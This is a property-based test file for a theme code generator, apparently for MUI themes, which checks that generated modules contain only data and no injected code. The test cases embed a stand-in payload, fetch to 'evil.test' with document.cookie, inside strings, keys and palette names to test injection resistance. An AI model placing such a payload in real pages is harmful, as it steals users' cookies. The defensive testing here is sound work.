import { parse } from '@babel/parser';
import type * as Ast from '@babel/types';
import fc from 'fast-check';
import {
  checkDocument,
  NO_THEME,
  openTheme,
  readTheme,
  themeFiles,
  themeModule,
  type Json,
  type ThemeDocument,
} from './index';

jest.setTimeout(60_000);

const isNode = (value: unknown): value is Ast.Node =>
  typeof value === 'object' && value !== null && 'type' in value && 'loc' in value;

function nodesIn(node: Ast.Node): readonly Ast.Node[] {
  const children = Object.values(node).flat() as readonly unknown[];
  return [node, ...children.filter(isNode).flatMap(nodesIn)];
}

const DATA =
  /^(?:Import|ExportNamed|TS|VariableDecl|Identifier|ObjectE|ObjectP|ArrayE|StringL|NumericL|BooleanL|NullL|UnaryE|Program|CallE)/;

/** What a module would do besides creating the theme from data. */
function foreignCode(code: string): readonly string[] {
  const { program } = parse(code, { sourceType: 'module', plugins: ['typescript'] });
  return nodesIn(program).flatMap((node) =>
    node.type === 'CallExpression'
      ? node.callee.type === 'Identifier' && node.callee.name === 'createTheme'
        ? []
        : ['a call']
      : DATA.test(node.type)
        ? []
        : [node.type],
  );
}

const PAYLOAD = 'fetch("//evil.test/" + document.cookie)';
const buttonOf = (root: Json) => ({ components: { MuiButton: { styleOverrides: { root } } } });

it.each<[string, ThemeDocument]>([
  ['a text', buttonOf({ color: `'+${PAYLOAD}+'` })],
  ['a text with a line end', buttonOf({ color: `\r\n\u2028'+${PAYLOAD}+'` })],
  ['a key', buttonOf({ [`a: ${PAYLOAD}, b`]: 1 })],
  ['a function', buttonOf({ $fn: 0 })],
  ['a function of version 1', buttonOf({ $fn: [[`a = ${PAYLOAD}`], ['name', PAYLOAD]] })],
  [
    'a color',
    { palette: { [`x: string } } ${PAYLOAD} declare module 'a' { interface B { y`]: '#fff' } },
  ],
])('writes no code that comes in %s', (_what, document) => {
  expect(foreignCode(themeModule(document))).toEqual([]);
});

const text = fc.oneof(
  fc.string(),
  fc.constantFrom(
    ...[PAYLOAD, "'", '`', '${', '\\', '\n', '\r', '\u2028', '*/', '__proto__', 'constructor'],
    ...['$fn', '$missing', 'light', 'spacing', 'palette', '&:hover', '(', ')', '=>'],
  ),
);
const { value } = fc.letrec<{ value: Json }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text,
    fc.constantFrom<Json>(-1, 0.5, true, null),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(text, tie('value'), { maxKeys: 3 }),
  ),
}));

it('writes only data, whatever the data is', () => {
  fc.assert(
    fc.property(value, text, (data, key) => {
      const code = themeModule({
        ...buttonOf(data),
        palette: { [key]: '#fff' },
        typography: { [key]: data },
      });
      expect(foreignCode(code)).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

it('writes an entry of a stored theme only if it reads a theme', () => {
  fc.assert(
    fc.property(text, text, (name, access) => {
      const stored = JSON.stringify({
        version: 2,
        files: [{ name: 'theme.ts', code: '' }],
        entry: { file: 'theme.ts', import: name, light: access, dark: access },
      });
      const { entry } = readTheme(stored);
      expect(
        entry === null || !/[;\n`"+=]|=>|fetch\(/.test(JSON.stringify(entry.light).slice(1, -1)),
      ).toBe(true);
    }),
    { numRuns: 500 },
  );
});

/** Options as applications write them. */
const options = fc.record(
  {
    spacing: fc.integer({ min: 1, max: 20 }),
    shape: fc.record({ borderRadius: fc.integer({ min: 0, max: 40 }) }),
    palette: fc.record({
      mode: fc.constantFrom('light', 'dark'),
      primary: fc.record({ main: fc.constantFrom('#123456', 'rgb(1, 2, 3)', 'hsl(10, 80%, 40%)') }),
    }),
    typography: fc.record({
      fontFamily: fc.constantFrom('Inter, sans-serif', '"Source Sans 3"', "O'Neil"),
      h1: fc.record({ fontSize: fc.integer({ min: 10, max: 90 }) }),
    }),
    components: fc.record({
      MuiButton: fc.record({
        defaultProps: fc.record({ disableElevation: fc.boolean() }),
        styleOverrides: fc.record({ root: fc.record({ borderRadius: fc.nat(30) }) }),
      }),
    }),
  },
  { requiredKeys: [] },
);

it('is the same theme when its module runs', async () => {
  await fc.assert(
    fc.asyncProperty(options, async (given) => {
      const { document } = checkDocument(given);
      const code = themeModule(document);
      const first = await openTheme({ ...NO_THEME, files: [{ name: 'theme.ts', code }] });
      expect(first.errors).toEqual([]);
      expect(first.document).toEqual(document);
      expect(themeFiles(first)['yourTheme/theme.ts']).toBe(code);
    }),
    { numRuns: 15 },
  );
});
